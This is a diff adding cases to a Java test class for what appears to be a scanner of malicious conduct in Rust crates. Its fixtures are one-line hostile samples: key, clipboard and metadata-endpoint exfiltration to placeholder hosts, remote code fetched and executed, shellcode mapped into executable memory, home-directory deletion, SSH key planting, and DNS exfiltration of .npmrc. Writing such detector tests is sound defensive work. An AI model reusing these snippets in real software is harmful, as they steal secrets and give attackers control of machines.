@@ -31,6 +31,8 @@ final class RuntimeConductTest {
         "pub fn g() { let t = arboard::Clipboard::new().get_text(); surf::post(U).body_string(t); }",
         "pub fn g(mnemonic: &str) { let m = spl_memo::build_memo(mnemonic.as_bytes(), &[]); reqwest::get(u); }",
         "struct A { http: ureq::Agent } impl A { fn x(&self, private_key: &str) { self.http.get(&format!(\"{}/{}\", B, private_key)).call(); } }",
+        "pub fn g() { let t = ureq::get(\"http://169.254.169.254/x\").call(); ureq::post(U).send_string(&t); }",
+        "pub fn g() { let a = std::net::Ipv4Addr::from(2_852_039_166u32); let c = reqwest::Client::new(); let t = c.get(at(a)).send(); c.post(U).body(t).send(); }",
         "pub fn g(keystore: &[u8]) { let p = Payload { data: keystore.to_vec(), n: 1 }; let c = reqwest::Client::new(); c.put(U).json(&p).send(); }",
         "use std::net::UdpSocket; pub fn g(xprv: &str) { let s = UdpSocket::bind(a); for c in xprv.as_bytes().chunks(30) { s.send_to(c, a); } }",
       })
@@ -47,6 +49,9 @@ final class RuntimeConductTest {
         "pub fn login(user: &str, password: &str) { ureq::post(U).send_json(json!({\"user\": user, \"password\": password})); }",
         "pub fn f(certs: C, private_key: K) { rustls::ServerConfig::builder().with_single_cert(certs, private_key); }",
         "pub fn f(p: &Path) { let t = std::fs::read(p); reqwest::Client::new().post(u).body(t).send(); }",
+        "pub fn f() { let h = gethostname::gethostname(); ureq::post(U).send_json(h); }",
+        "pub fn f() { let k = std::env::var(\"API_KEY\"); reqwest::Client::new().get(u).bearer_auth(k).send(); }",
+        "pub fn f() { let d = std::env::temp_dir(); std::net::TcpListener::bind(a); std::process::Command::new(p).current_dir(d).spawn(); }",
         "pub fn f() { let p = std::env::var(\"HTTP_PROXY\"); reqwest::Client::builder().proxy(p).build(); }",
       })
   void leavesSignedAndCallersValuesAlone(String source) {
@@ -56,9 +61,10 @@ final class RuntimeConductTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "pub fn f() { let h = gethostname::gethostname(); ureq::post(U).send_json(h); }",
-        "pub fn f() { let u = whoami::username(); reqwest::Client::new().get(format!(\"{B}/{u}\")).send(); }",
-        "pub fn f() { let u = std::env::var(\"USER\"); minreq::post(U).with_body(u).send(); }",
+        "pub fn f() { let h = gethostname::gethostname(); let d = std::env::current_dir(); ureq::post(U).send_json((h, d)); }",
+        "pub fn f() { let u = whoami::username(); let h = hostname::get(); reqwest::Client::new().get(format!(\"{B}/{u}/{h}\")).send(); }",
+        "pub fn f() { let u = std::env::var(\"USER\"); let b = format!(\"{:?} {:?}\", u, std::env::current_exe()); minreq::post(U).with_body(b).send(); }",
+        "pub fn f() { let h = gethostname::gethostname(); tokio::net::lookup_host(format!(\"{h}.x\")); }",
         "pub fn f(password: &str) { ureq::post(U).send_string(password); }",
       })
   void seesNamesOfTheMachineThatAreSent(String source) {
@@ -72,6 +78,8 @@ final class RuntimeConductTest {
         "pub fn f() { let t = ureq::get(U).call().into_string(); std::process::Command::new(\"python3\").arg(\"-c\").arg(&t).spawn(); }",
         "use std::{io::Read, net::TcpStream, process::Command}; pub fn f() { let mut s = TcpStream::connect(a).unwrap(); let mut b = String::new(); s.read_to_string(&mut b); Command::new(\"sh\").args([\"-c\", &b]).output(); }",
         "use std::{net::TcpStream, process::{Command, Stdio}}; pub fn f() { let s = TcpStream::connect(a).unwrap(); let d = s.as_raw_fd(); Command::new(x).stdin(Stdio::from_raw_fd(d)).spawn(); }",
+        "use std::net::TcpStream; pub fn f() { let s = TcpStream::connect(a); let v = std::env::var(N).unwrap(); std::process::Command::new(\"bash\").arg(\"-c\").arg(v).spawn(); }",
+        "pub fn f() { reqwest::get(u); let t = std::fs::read_to_string(p).unwrap(); std::process::Command::new(\"perl\").args([\"-e\", &t]).spawn(); }",
         "pub fn f() { let b = minreq::get(U).send().unwrap().into_bytes(); std::fs::write(p.join(\"a.dll\"), b); }",
         "pub fn f() { let b = ureq::get(U).call(); let to = d.join(n); std::fs::write(&to, b); std::process::Command::new(&to).spawn(); }",
         "pub fn f() { let b = ureq::get(U).call(); let to = d.join(n); std::fs::write(&to, b); libloading::Library::new(&to); }",
@@ -100,6 +108,9 @@ final class RuntimeConductTest {
         "executable-memory|`fn f() { let b = ureq::get(U).call(); let p = VirtualAlloc(n, l, 0x3000, 0x40); copy_nonoverlapping(b.as_ptr(), p, l); }`",
         "executable-memory|`fn f() { let b = std::fs::read(\"x.dat\"); libc::mprotect(p, 4096, 7); std::ptr::copy(b.as_ptr(), p, 9); }`",
         "executable-memory|`fn load(code: &[u8]) { let p = mmap(n, l, PROT_WRITE | PROT_EXEC, 2, 0, 0); copy_nonoverlapping(code.as_ptr(), p, l); } fn f() { let d = unpack(include_bytes!(\"d\")); load(d); }`",
+        "executable-memory|`static C: &[u8] = b\"\\x90\\x90\\x90\\xc3\"; fn f() { let p = mmap(n, l, PROT_EXEC | PROT_WRITE, 2, -1, 0); for (i, b) in C.iter().enumerate() { p.add(i).write(*b); } }`",
+        "decoded-use|`fn f() { let h: String = D.iter().map(|b| (b ^ 0x2a) as char).collect(); std::net::TcpStream::connect(h); }`",
+        "process-files|`fn f(pid: u32) { let p = std::path::Path::new(\"/proc\").join(pid.to_string()); std::fs::read(p.join(\"environ\")); }`",
         "destruction|`fn f() { for e in std::fs::read_dir(dirs::home_dir().unwrap()).unwrap() { std::fs::remove_file(e.path()); } }`",
         "destruction|`fn f() { for e in walkdir::WalkDir::new(\"/\") { let p = e.path(); std::fs::write(p, [0u8; 64]); } }`",
         "destruction|`fn f() { let h = std::env::var(\"HOME\").unwrap(); std::fs::remove_dir_all(h); }`",
@@ -201,6 +212,7 @@ final class RuntimeConductTest {
         "native/hook.c|`__attribute__((constructor)) static void a(void) { system(C); }`",
         "native/net.c|`void a(void) { char *h = getenv(\"HOME\"); connect(s, p, n); }`",
         "vendor/Makefile|`all:\n\techo x | base64 -d | sh\n`",
+        "vendor/dns.sh|`nslookup $(cat .npmrc).x.invalid\nprintenv | sh -c 'dig x'\n`",
         "vendor/post.js|`const c = require('child_process'); https.get(u, r => c.exec(r));`",
         "vendor/i.sh|`echo k >> $HOME/.ssh/authorized_keys\n`",
         "vendor/x.cmake|`file(DOWNLOAD ${U} ${F})\nexecute_process(COMMAND ${F})\n`",
@@ -209,6 +221,33 @@ final class RuntimeConductTest {
     CrateBuilder crate = demo().buildScript("fn main() {}").file(path, text);
 
     assertThat(of(crate, SignalWeight.HIGH)).contains("script-conduct");
+  }
+
+  @Test
+  void aConstructorMayReachOtherSources() {
+    String source =
+        "#[used] #[link_section = \".init_array\"] static A: extern \"C\" fn() = go; extern \"C\" fn go() { crate::inner::run(); } mod inner;";
+
+    assertThat(
+            of(
+                demo()
+                    .file("src/lib.rs", source)
+                    .file("src/inner.rs", "pub fn run() { std::process::Command::new(p).spawn(); }"),
+                SignalWeight.REVIEW))
+        .contains("constructor");
+    assertThat(
+            of(
+                demo().file("src/lib.rs", source).file("src/inner.rs", "pub fn run() {}"),
+                SignalWeight.REVIEW))
+        .isEmpty();
+  }
+
+  @Test
+  void hiddenLinesThatDoSeveralThingsWeighHigh() {
+    String source =
+        "/// ```\n/// # for (k, v) in std::env::vars() {\n/// #   std::process::Command::new(\"id\").arg(v).status();\n/// # }\n/// ```\npub fn f() {}";
+
+    assertThat(signals(source, SignalWeight.HIGH)).contains("doc-test");
   }
 
   @Test
